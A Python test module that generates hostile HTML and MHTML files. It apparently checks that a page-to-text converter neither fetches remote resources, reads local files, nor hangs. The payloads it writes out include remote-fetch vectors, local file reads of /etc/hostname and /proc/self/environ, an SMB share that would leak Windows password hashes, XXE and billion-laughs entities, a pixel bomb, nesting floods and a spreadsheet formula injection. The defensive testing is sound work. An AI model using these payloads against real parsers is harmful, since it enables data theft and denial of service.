"""Web pages: what fetches, what reads files, what parsers lose or never finish."""

from __future__ import annotations

import base64
import struct

from hostile_files.case import CANARY, EITHER, OPEN, WARN, Case, Place, png, png_of
from hostile_files.packages import LAUGHS, XML

SAID = "<p>The mayor said.</p>"
_TOLD = "The mayor said."


def _fetching(at: Place) -> str:
    net = at.net
    head = (
        f'<link rel=stylesheet href="{net}/l.css"><link rel=preload as=font href="{net}/f.woff">'
        f'<link rel=dns-prefetch href="//leak.invalid">'
        f'<meta http-equiv=refresh content="0;url={net}/r"><base href="{net}/">'
        f"<style>@import url({net}/i.css);@font-face{{font-family:x;src:url({net}/x.ttf)}}"
        f'body{{background:url({net}/bg.png)}}</style><script src="{net}/s.js"></script>'
    )
    return (
        f"<html><head>{head}</head><body background='{net}/b.png'>{SAID}"
        f"<img src='{net}/p.gif' srcset='{net}/2.png 2x'><img src='//{at.host}/pr.gif'>"
        f"<img src=rel.gif><iframe src='{net}/f'></iframe><object data='{net}/o'></object>"
        f"<embed src='{net}/e'><video src='{net}/v' poster='{net}/po'></video>"
        f"<svg><image href='{net}/svg.png'/></svg><a ping='{net}/ping' href='{net}/a'>x</a>"
        f"<form action='{net}/form'><input></form></body></html>"
    )


def _reading_files(at: Place) -> str:
    return (
        f"{SAID}<img src='{at.picture}'><img src='{at.text}'><iframe src='{at.text}'></iframe>"
        f"<link rel=stylesheet href='{at.text}'>"
        f'<p style="background-image:url({at.picture})">x</p>'
        f"<table background='{at.picture}'><tr><td>y</table>"
        f"<ul style='list-style-image:url({at.picture})'><li>z</ul>"
        "<img src='canary.png'><img src='/etc/hostname'>"
    )


def _data_url(picture: bytes) -> str:
    return f"data:image/png;base64,{base64.b64encode(picture).decode()}"


# 900 million pixels of 112 MB in 110 kB
def _pixels(_at: Place) -> str:
    header = struct.pack(">IIBBBBB", 30000, 30000, 1, 0, 0, 0, 0)
    return f"{SAID}<img src='{_data_url(png_of(header, bytes(3751 * 30000)))}'>"


def _entity(target: str) -> str:
    return f'<!DOCTYPE x [<!ENTITY e SYSTEM "{target}">]>'


_REACHING = [
    Case(
        "remote_everything.html",
        "every way of HTML to fetch",
        OPEN,
        _fetching,
        must=_TOLD,
        reaches=True,
    ),
    Case(
        "local_files.html",
        "reads files of this machine",
        OPEN,
        _reading_files,
        must=_TOLD,
        never=CANARY,
        reaches=True,
    ),
    Case(
        "unc_smb.html",
        "a share: on Windows the user's name and password hash would go there",
        OPEN,
        SAID + "<img src='file://leak.invalid/share/a.png'>"
        "<img src='\\\\leak.invalid\\share\\a.png'><img src='//leak.invalid/a.png'>",
        must=_TOLD,
        reaches=True,
    ),
    Case(
        "dev_paths.html",
        "devices that are read without end",
        OPEN,
        SAID + "<img src='file:///dev/zero'><img src='file:///dev/stdin'>"
        "<img src='file:///proc/self/environ'><img src='CON'>",
        must=_TOLD,
        reaches=True,
    ),
    Case(
        "xhtml_xxe.html",
        "an entity that is a file",
        OPEN,
        lambda at: f"{XML}{_entity(at.text)}<html><body><p>&e; {_TOLD}</p></body></html>",
        must=_TOLD,
        never=CANARY,
        reaches=True,
    ),
    Case(
        "title_html.html",
        "markup in the title",
        OPEN,
        lambda at: f"<title><img src='{at.picture}'><b>x</b></title>{SAID}",
        must=_TOLD,
        reaches=True,
    ),
    Case(
        "metadata_html.html",
        "markup in what tabs, lists and tips show",
        OPEN,
        lambda at: (
            f"<meta name=author content=\"<img src='{at.picture}'>\">"
            f"<meta property=og:site_name content=\"<img src='{at.net}/o.png'>\">"
            f'<link rel=canonical href="{at.net}/canonical">'
            f'<script type="application/ld+json">{{"@type":"NewsArticle","headline":"<img '
            f'src=\'{at.picture}\'>","@context":"{at.net}/context"}}</script>{SAID * 3}'
        ),
        must=_TOLD,
        never=CANARY,
        reaches=True,
    ),
]

_DEEP = [
    Case(
        "deep_div.html",
        "100,000 elements in each other",
        EITHER,
        lambda _: "<html><body>" + "<div>" * 100_000 + _TOLD + "</div>" * 100_000,
        must=_TOLD,
    ),
    Case(
        "deep_300.html",
        "libxml2 drops what lies below 256 levels and says nothing",
        OPEN,
        "<html><body>" + "<div>" * 300 + "The mayor said DEEP." + "</div>" * 300 + "<p>Tail.</p>",
        must="The mayor said DEEP.",
    ),
    Case(
        "deep_inline.html",
        "60,000 open inline elements",
        EITHER,
        lambda _: "<body>" + "<b><i><font>" * 20_000 + _TOLD,
        must=_TOLD,
    ),
    Case(
        "misnested.html",
        "elements closed in the wrong order: trees are built in quadratic time",
        EITHER,
        "<body>" + "<b><p>" * 3_000 + _TOLD,
        must=_TOLD,
    ),
    Case(
        "tables.html", "4,000 tables in each other", EITHER, "<table>" * 4_000 + _TOLD, must=_TOLD
    ),
    Case(
        "attrs.html",
        "an element with 100,000 attributes",
        EITHER,
        lambda _: "<p " + " ".join(f'a{i}="x"' for i in range(100_000)) + f">{_TOLD}</p>",
        must=_TOLD,
    ),
    Case("lt_flood.html", "a million <", EITHER, lambda _: "<" * 1_000_000 + f"p>{_TOLD}"),
    Case("comment_open.html", "comments without end", EITHER, lambda _: "<!--" * 200_000 + _TOLD),
    Case(
        "cdata_script.html",
        "scripts in comments in scripts",
        EITHER,
        lambda _: "<script>" + "<!--<script>" * 50_000 + f"</script>{SAID}",
    ),
    Case(
        "entity_flood.html",
        "entities without an end, and out of range",
        EITHER,
        lambda _: "<p>" + "&amp" * 400_000 + "&#x110000;&#0;&#xD800;&bogus;</p>",
    ),
]

_OTHERS = [
    Case(
        "charset_lie.html",
        "says UTF-16 and is ASCII",
        OPEN,
        f'<meta charset="utf-16">{SAID}',
        must=_TOLD,
    ),
    Case(
        "charset_utf7.html",
        "UTF-7 hides markup",
        OPEN,
        '<meta charset="utf-7"><p>+ADw-img src=x+AD4- The mayor said.</p>',
        must=_TOLD,
    ),
    Case(
        "two_charsets.html",
        "says two encodings",
        WARN,
        f'<meta charset="shift_jis"><meta charset="utf-8"><p>Caf\u00e9 {_TOLD}</p>',
        must=_TOLD,
    ),
    Case(
        "xhtml_lol.html",
        "a billion laughs",
        OPEN,
        f"{XML}{LAUGHS}<html><body><p>&a9; {_TOLD}</p></body></html>",
        must=_TOLD,
    ),
    Case(
        "huge_dim.html",
        "sizes that no screen has",
        OPEN,
        f"{SAID}<img width=2000000000 height=2000000000 src='{_data_url(png())}'>"
        "<p style='font-size:99999999pt;margin:-99999999px'>big</p>",
        must=_TOLD,
    ),
    Case("pixel_bomb.html", "a picture of 900 million pixels", OPEN, _pixels, must=_TOLD),
    Case(
        "hidden_text.html",
        "words that a reader of the page never saw",
        WARN,
        f"{SAID}<p style='display:none'>HIDDENTEXT</p><noscript>NOSCRIPTTEXT</noscript>"
        "<template>TEMPLATETEXT</template>",
        must=_TOLD,
    ),
    Case(
        "formula_quote.html",
        "formulas for a spreadsheet",
        OPEN,
        '<p>=HYPERLINK("http://127.0.0.1:9/x","The mayor said")</p>'
        "<p>@SUM(1)</p><p>+1</p><p>-1</p>",
        must="HYPERLINK",
    ),
]


def _mhtml(*parts: str, head: str = "") -> str:
    top = f'MIME-Version: 1.0\n{head}Content-Type: multipart/related; boundary="b"\n\n'
    whole = top + "".join(f"--b\n{part}\n" for part in parts) + "--b--\n"
    return whole.replace("\n", "\r\n")


_SAVED = [
    Case(
        "canary.mhtml",
        "parts that lie outside of the file",
        OPEN,
        lambda at: _mhtml(
            f"Content-Type: text/html\nContent-Location: {at.net}/page\n\n{_reading_files(at)}"
            f"{SAID * 3}<img src='cid:canary.png'>",
            f"Content-Type: image/png\nContent-Location: {at.picture}\n\n",
        ),
        must=_TOLD,
        never=CANARY,
        reaches=True,
    ),
    Case(
        "no_page.mhtml",
        "a saved page without a page",
        EITHER,
        _mhtml("Content-Type: image/png\nContent-Transfer-Encoding: base64\n\niVBORw0KGgo="),
    ),
    Case(
        "parts.mhtml",
        "20,000 parts",
        EITHER,
        lambda _: _mhtml(f"Content-Type: text/html\n\n{SAID}", *["\n\nx"] * 20_000),
    ),
    Case(
        "endless_base64.mhtml",
        "4 MB that are no base64",
        EITHER,
        lambda _: _mhtml(
            "Content-Type: text/html\nContent-Transfer-Encoding: base64\n\n" + "!=" * 2_000_000
        ),
    ),
]

CASES = [*_REACHING, *_DEEP, *_OTHERS, *_SAVED]
